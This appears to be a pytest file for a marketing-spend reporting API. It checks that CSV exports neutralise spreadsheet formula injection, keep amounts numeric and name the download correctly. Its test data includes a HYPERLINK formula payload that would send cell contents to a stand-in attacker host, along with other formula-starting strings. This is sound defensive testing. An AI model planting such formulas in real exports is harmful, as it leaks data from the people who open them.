"""CSV downloads are safe to open in a spreadsheet: text that would run as a formula is
escaped (OWASP: a leading single quote), amounts stay numbers, and the download is named."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import Session

from campaigns.reports.csv_export import FORMULA_STARTS, Money, render, text_cell
from tests.api.factories import add_metrics, create_account, create_campaign, create_plan

Headers = Callable[[str], dict[str, str]]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'
URL = "/api/v1/finance/spend-vs-plan?start_month=2024-02-01&end_month=2024-02-01"


def _hostile_accounts(db: Session) -> None:
    names = {"act_1": HYPERLINK, "act_2": "@SUM(1)", "act_3": "-2+3", "act_4": "\tcmd"}
    for ext, name in names.items():
        acc = create_account(db, network="meta", currency="EUR", external_id=ext)
        acc.name = name
        camp = create_campaign(db, account=acc)
        add_metrics(db, campaign=camp, start=dt.date(2024, 2, 1), spends=["10.25"])
    create_plan(db, month=dt.date(2024, 2, 1), planned="53.50")  # 41.00 spent: -12.50
    db.commit()


def test_finance_csv_escapes_formulas_and_keeps_amounts_numeric(
    client: TestClient, as_role: Headers, db: Session,
) -> None:
    _hostile_accounts(db)
    r = client.get(URL + "&format=csv", headers=as_role("finance"))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == (
        'attachment; filename="finance-default-2024-02-2024-02.csv"')
    rows = list(csv.DictReader(io.StringIO(r.text)))
    names = sorted(x["account_name"] for x in rows if x["level"] == "account")
    assert names == sorted(["'" + HYPERLINK, "'@SUM(1)", "'-2+3", "'\tcmd"])
    for row in rows:  # no cell of any row starts a formula
        assert not any(v.startswith(FORMULA_STARTS) for k, v in row.items()
                       if k not in ("spend_local", "spend_eur", "plan", "variance", "forecast",
                                    "forecast_variance")), row
    total = next(x for x in rows if x["level"] == "total")
    assert total["variance"] == "-12.50"  # money stays a number a spreadsheet can sum
    assert Decimal(total["spend_eur"]) == Decimal("41.00")


def test_json_report_keeps_names_as_they_are(client: TestClient, as_role: Headers,
                                             db: Session) -> None:
    _hostile_accounts(db)
    body = client.get(URL, headers=as_role("finance")).json()
    assert HYPERLINK in {x["account_name"] for x in body["rows"]}  # escaping is for CSV only


@given(st.text(max_size=20), st.decimals(allow_nan=False, allow_infinity=False, places=2))
def test_every_text_cell_is_inert_and_every_amount_reads_back(text: str, amount: Decimal) -> None:
    doc = render(["name", "amount"], [[text, Money(amount)]])
    (row,) = list(csv.DictReader(io.StringIO(doc, newline="")))
    assert not row["name"].startswith(FORMULA_STARTS)
    assert row["name"] in (text, "'" + text) and row["name"] == text_cell(text)
    assert Decimal(row["amount"]) == amount
